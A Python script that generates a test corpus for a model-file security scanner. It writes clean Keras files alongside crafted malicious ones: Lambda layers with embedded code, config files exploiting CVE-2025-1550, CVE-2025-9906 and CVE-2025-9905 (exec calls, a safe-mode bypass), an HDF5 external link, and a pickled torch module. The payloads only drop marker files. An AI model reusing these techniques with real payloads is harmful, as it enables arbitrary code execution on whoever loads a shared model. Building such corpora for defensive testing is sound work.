"""Keras files for the gate's tests, written by the real Keras (torch backend), and attacks
made from them: ``python keras_corpus.py OUT`` with Keras importable.

Each payload only creates ``PWNED-<case>`` in ``$CKPT_ORACLE_MARKERS`` (or the current
folder). Cases (file -> what the gate must say):

* ``clean_seq.keras``, ``clean_func.keras``, ``clean.weights.h5``, ``clean_legacy.h5``,
  ``clean_dir/`` (a model saved as a folder): data;
* ``lambda.keras``, ``lambda_dir/``: a Lambda layer's marshalled lambda, run by
  ``load_model(safe_mode=False)``: code;
* ``lambda_legacy.h5``: the same in a legacy HDF5 model, run by a plain ``load_model`` in Keras
  3.8 (CVE-2025-9905): unsafe;
* ``cve_2025_1550.keras``: a Lambda whose function is ``builtins.exec``, run by a plain
  ``load_model`` in Keras 3.8: unsafe;
* ``cve_2025_9906/outer.keras``: Lambdas calling ``set_global_attribute`` (safe mode off) and
  ``load_model`` of ``inner.keras`` (a lambda): unsafe;
* ``custom.keras``: a registered custom layer (a custom object): unverified;
* ``extlink.weights.h5``: weights with an HDF5 external link: unverified;
* ``torch_wrapper.keras``: a TorchModuleWrapper (a pickled module): code.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import zipfile

MARKERS = "CKPT_ORACLE_MARKERS"


def marker_code(case: str) -> str:
    return (
        "open(__import__('os').path.join(__import__('os').environ.get("
        f"'{MARKERS}', '.'), 'PWNED-{case}'), 'w').close()"
    )


def _lambda_model(keras: object, case: str) -> object:
    k = keras
    i = k.Input((3,))  # type: ignore[attr-defined]
    payload = eval(f"lambda x: ({marker_code(case)}, x)[1]")
    return k.Model(i, k.layers.Lambda(payload)(i))  # type: ignore[attr-defined]


def _unzip(archive: str, folder: str) -> None:
    os.makedirs(folder)
    with zipfile.ZipFile(archive) as z:
        z.extractall(folder)


def _lambda_layer(name: str, fn: dict, inputs: str, arguments: dict) -> dict:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": name, "trainable": True, "function": fn, "arguments": arguments},
        "registered_name": None,
        "name": name,
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": inputs}}],
    }


def _function(module: str, name: str) -> dict:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _crafted(path: str, layers: list[dict], weights_from: str) -> None:
    """A .keras whose config.json is ``layers`` in a Functional model (as the published
    proofs of concept write it), with a real archive's metadata and weights."""
    first = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "in0"},
        "registered_name": None,
        "name": "in0",
        "inbound_nodes": [],
    }
    config = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "outer",
            "trainable": True,
            "layers": [first, *layers],
            "input_layers": [["in0", 0, 0]],
            "output_layers": [["in0", 0, 0]],
        },
        "registered_name": None,
    }
    with zipfile.ZipFile(weights_from) as src, zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", src.read("metadata.json"))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", src.read("model.weights.h5"))


def build(out: str) -> None:
    import h5py
    import keras
    import torch

    j = os.path.join
    seq = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dropout(0.1)]
    )
    seq.compile(optimizer="adam", loss="mse", metrics=["mae"])
    seq.save(j(out, "clean_seq.keras"))
    i = keras.Input((5,))
    x = keras.layers.LayerNormalization()(keras.layers.Dense(3)(i))
    func = keras.Model(i, keras.layers.Activation("gelu")(x))
    func.save(j(out, "clean_func.keras"))
    func.save_weights(j(out, "clean.weights.h5"))
    func.save(j(out, "clean_legacy.h5"))
    _unzip(j(out, "clean_func.keras"), j(out, "clean_dir"))

    _lambda_model(keras, "keras-lambda").save(j(out, "lambda.keras"))  # type: ignore[attr-defined]
    _unzip(j(out, "lambda.keras"), j(out, "lambda_dir"))
    _lambda_model(keras, "keras-lambda-h5").save(j(out, "lambda_legacy.h5"))  # type: ignore[attr-defined]

    exec_fn = _function("builtins", "exec")
    layer = _lambda_layer("ex", exec_fn, marker_code("keras-cve-2025-1550"), {})
    _crafted(j(out, "cve_2025_1550.keras"), [layer], j(out, "clean_func.keras"))
    os.makedirs(j(out, "cve_2025_9906"))
    _lambda_model(keras, "keras-cve-2025-9906").save(j(out, "cve_2025_9906", "inner.keras"))  # type: ignore[attr-defined]
    off = _function("keras.src.backend.common.global_state", "set_global_attribute")
    load = _function("keras.models", "load_model")
    layers = [
        _lambda_layer("off", off, "safe_mode_saving", {"value": False}),
        _lambda_layer("ld", load, "inner.keras", {}),
    ]
    _crafted(j(out, "cve_2025_9906", "outer.keras"), layers, j(out, "clean_func.keras"))

    @keras.saving.register_keras_serializable(package="corpus")
    class Scaled(keras.layers.Layer):
        def call(self, x: object) -> object:
            return x * 2  # type: ignore[operator]

    keras.Sequential([keras.Input((3,)), Scaled()]).save(j(out, "custom.keras"))

    shutil.copy(j(out, "clean.weights.h5"), j(out, "extlink.weights.h5"))
    with h5py.File(j(out, "extlink.weights.h5"), "a") as f:
        f["elsewhere"] = h5py.ExternalLink("/etc/other.h5", "/data")

    wrapped = keras.layers.TorchModuleWrapper(torch.nn.Linear(3, 2))
    keras.Sequential([keras.Input((3,)), wrapped]).save(j(out, "torch_wrapper.keras"))


if __name__ == "__main__":
    build(sys.argv[1])
